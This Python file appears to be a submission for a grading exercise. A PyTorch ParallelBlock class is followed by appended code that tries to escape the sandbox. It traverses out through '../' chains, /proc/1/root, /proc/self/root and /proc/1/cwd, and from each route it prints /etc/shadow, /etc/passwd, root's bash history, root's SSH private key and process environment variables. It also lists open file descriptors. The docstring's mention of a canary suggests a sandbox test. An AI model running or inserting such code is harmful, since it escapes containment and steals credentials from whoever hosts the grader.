"""Climbs out with .., through /proc/1/root, /proc/self/cwd and descriptors of old folders.

exercise: parallel-block
points: 4
breaks: secret
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.nets = [net1, net2]

    def forward(self, X):
        return torch.cat([net(X) for net in self.nets], dim=-1)


import os


def tell(*paths, most=200_000):
    """Print what there is to read, so that a canary would be seen."""
    for path in paths:
        try:
            with open(path, "rb") as file:
                print(path, file.read(most))
        except OSError as error:
            print(path, error)

for start in ("../" * 20, "/proc/1/root/", "/proc/self/root/", "/proc/1/cwd/" + "../" * 20, "/old/", "/root/old/"):
    for name in ("etc/shadow", "etc/passwd", "root/.bash_history", "root/.ssh/id_rsa", "tmp", "proc/1/environ"):
        tell(start + name, most=2000)
    try:
        print(os.listdir(start))
    except OSError as error:
        print(start, error)
for descriptor in os.listdir("/proc/self/fd"):
    try:
        print(descriptor, os.readlink(f"/proc/self/fd/{descriptor}"), os.listdir(int(descriptor)))
    except OSError:
        pass
